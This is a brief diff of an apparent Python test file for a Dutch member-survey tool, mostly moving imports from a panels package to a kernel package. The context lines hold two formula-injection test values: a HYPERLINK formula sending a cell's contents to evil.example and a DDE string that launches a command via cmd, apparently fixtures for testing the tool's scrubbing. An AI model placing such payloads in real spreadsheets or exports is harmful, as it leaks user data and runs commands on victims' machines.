@@ -25,7 +25,7 @@ from ledenpanel.analysis.inputs.responses_csv_export import DELIMITER, responses
 from ledenpanel.analysis.scrub import scrub
 from ledenpanel.cli import main
 from ledenpanel.kernel.cells import TRIGGERS, is_plain_number
-from ledenpanel.panels.questionnaire.schema import (
+from ledenpanel.kernel.questionnaire.schema import (
     Option,
     Question,
     Questionnaire,
@@ -33,7 +33,7 @@ from ledenpanel.panels.questionnaire.schema import (
     Section,
     validate,
 )
-from ledenpanel.panels.xlsform import write_xlsform
+from ledenpanel.kernel.xlsform import write_xlsform
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2;"Klik voor de uitslag")'
 DDE = "-2+3+cmd|' /C calc'!A0"
